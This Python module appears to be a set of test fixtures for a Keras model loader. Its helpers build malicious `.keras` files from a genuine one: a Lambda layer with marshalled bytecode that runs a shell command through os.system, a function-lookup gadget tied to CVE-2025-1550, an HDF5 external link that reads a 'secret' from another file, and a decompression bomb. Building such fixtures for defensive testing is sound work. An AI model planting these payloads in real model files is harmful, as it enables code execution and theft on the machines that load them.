"""`.keras` files that do more than a plain network does when they are loaded, each made of one that Keras wrote."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from flowerops.io.keras_archive import CONFIG, WEIGHTS

Config = dict[str, Any]


def rewritten(
    source: Path,
    target: Path,
    config: Callable[[Config], Config | None] = lambda config: config,
    weights: Callable[[bytes], bytes] = lambda data: data,
    **zip_options: Any,
) -> Path:
    """Copy a `.keras` file with another network description (changed in place or given back) or other weights."""
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    described = json.loads(members[CONFIG])
    members[CONFIG] = json.dumps(config(described) or described).encode()
    members[WEIGHTS] = weights(members[WEIGHTS])
    with zipfile.ZipFile(target, "w", **zip_options) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target


def with_layer(layer: Config) -> Callable[[Config], None]:
    """Put a layer behind the first one; its place in the graph does not matter, Keras builds layers one by one."""

    def change(config: Config) -> None:
        first = config["config"]["layers"][0]
        config["config"]["layers"].insert(1, {**layer, "name": "extra", "inbound_nodes": first["inbound_nodes"]})

    return change


def layer(class_name: str, module: str = "keras.layers", **config: Any) -> Config:
    """A layer as Keras describes it."""
    return {"module": module, "class_name": class_name, "config": {"name": "extra", **config}, "registered_name": None}


def lambda_layer(command: str) -> Config:
    """Marshalled code, as Keras stores it, that runs a shell command."""
    import base64
    import marshal

    def run(x: Any) -> Any:
        return x

    code = compile(f"__import__('os').system({command!r})", "x", "eval")
    marshalled = base64.b64encode(
        marshal.dumps(run.__code__.replace(co_code=code.co_code, co_consts=code.co_consts, co_names=code.co_names))
    ).decode()
    value = {"code": marshalled, "defaults": None, "closure": None}
    return layer("Lambda", function={"class_name": "__lambda__", "config": value})


def gadget(name: str, module: str, *arguments: Any) -> Config:
    """A description that makes Keras look a function up by its name (as CVE-2025-1550 does)."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
        "args": list(arguments),
    }


def linked_weights(canary: Path) -> Callable[[bytes], bytes]:
    """Weights of which one array lies in another file."""

    def change(data: bytes) -> bytes:
        stream = io.BytesIO(data)
        with h5py.File(stream, "r+") as file:
            file["stolen"] = h5py.ExternalLink(str(canary), "/secret")
        return stream.getvalue()

    return change


def endless_weights(data: bytes) -> bytes:
    """A few kilobytes that would unpack to four gigabytes."""
    stream = io.BytesIO(data)
    with h5py.File(stream, "r+") as file:
        file.create_dataset("zeros", (1 << 30,), "f4", chunks=(1 << 20,), compression="gzip", fillvalue=np.float32(0))
    return stream.getvalue()
